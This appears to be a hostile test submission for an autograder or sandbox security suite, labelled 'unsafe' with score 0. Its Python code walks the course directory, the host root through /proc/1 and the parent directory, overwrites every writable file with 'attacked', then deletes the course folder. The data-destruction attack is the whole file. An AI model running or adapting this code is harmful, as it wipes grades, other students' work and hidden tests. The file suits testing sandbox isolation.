# title: The gradebook, other submissions and the hidden tests are overwritten and deleted
# base: release
# score: 0
# stock: unsafe
import os
import shutil

for top in ("@COURSE@", "/proc/1/root@COURSE@", "/proc/1/cwd", ".."):
    for folder, folders, files in os.walk(top):
        # Time is short: not the system, nor the packages, which another attack writes to.
        folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib")]
        for name in files:
            try:
                with open(os.path.join(folder, name), "w") as file:
                    file.write("attacked")
            except OSError:
                pass
shutil.rmtree("@COURSE@", ignore_errors=True)
